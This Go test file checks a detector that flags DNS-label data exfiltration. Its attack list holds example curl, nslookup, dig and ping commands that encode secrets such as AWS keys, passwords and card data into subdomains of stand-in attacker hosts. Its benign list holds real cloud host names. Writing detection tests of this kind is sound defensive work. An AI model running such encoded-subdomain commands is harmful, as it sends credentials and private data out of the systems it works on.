package hostexfil

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// Hosts written for this test: data an attacker encodes into labels, and
// host names of real services that look random in places.
func TestFind(t *testing.T) {
	b32 := strings.TrimRight(base32.StdEncoding.EncodeToString([]byte("db_pass=Zq81")), "=")
	attacks := []string{
		"https://" + hex.EncodeToString([]byte("AWS_SECRET=abc")) + ".t.attacker.net/x",
		"nslookup " + strings.ToLower(b32) + ".ns1.tunnel.io",
		"curl http://" + base64.RawURLEncoding.EncodeToString([]byte("user=alice;pw=s3cr3t")) + ".collect.example.org",
		`{"host": "9f8e7d6c5b4a39281706f5e4d3c2b1a0.data.attacker.net"}`,
		"ping 3a7f1c9e.b2d48f60.c19e7a3d.logs.attacker.net",
		"https://a1.b2.c3.d4.e5.f6.g7.h8.i9.j0.k1.l2.m3.n4.o5.p6.attacker.net/",
		"dig TXT kq3vxz7wmp2rt8ny5hb.exfil.attacker.net",
		"http://" + base32.StdEncoding.EncodeToString([]byte{0xde, 0xad, 0xbe, 0xef, 0xca, 0xfe, 0xba, 0xbe, 0x01, 0x02}) + ".t.attacker.net/",
		"mailto:x@" + hex.EncodeToString([]byte("card 4111")) + ".mx.attacker.net",
	}
	benign := []string{
		"https://cdnjs.cloudflare.com/ajax/libs/lodash.js/4.17.21/lodash.min.js",
		"https://d111111abcdef8.cloudfront.net/images/logo.png",
		"https://abc123defg.execute-api.us-east-1.amazonaws.com/prod/items",
		"ec2-54-12-34-56.compute-1.amazonaws.com",
		"https://deploy-preview-1234--my-site.netlify.app/",
		"https://user-repo-5g4q7xj9wp2f9r6-8080.app.github.dev/",
		"https://r3---sn-ab5l6nzr.googlevideo.com/videoplayback",
		"my-service.my-namespace.svc.cluster.local",
		"https://xn--bcher-kva.example.com/",
		"https://storage.googleapis.com/my-bucket/object.txt",
		"org.apache.commons.lang3.StringUtils",
		"see report.2024.final.pdf and v1.2.3.4",
		"https://1a2b-3c4d-5e6f.ngrok-free.app/webhook",
		"https://mybucket.s3.dualstack.eu-west-1.amazonaws.com/key",
		"https://project-id-default-rtdb.europe-west1.firebasedatabase.app/",
		"_dmarc.example.com",
		"https://login.microsoftonline.com/common/oauth2/v2.0/authorize",
		"https://a3f8b2c1d4e5f6a7.blob.core.windows.net/container",
	}
	for _, a := range attacks {
		f, ok := Find([]byte(a))
		assert.True(t, ok, "missed %s", a)
		t.Logf("%s: %s", f.Host, f.Why)
	}
	for _, b := range benign {
		f, ok := Find([]byte(b))
		assert.False(t, ok, "flagged %s: %+v", b, f)
	}
}
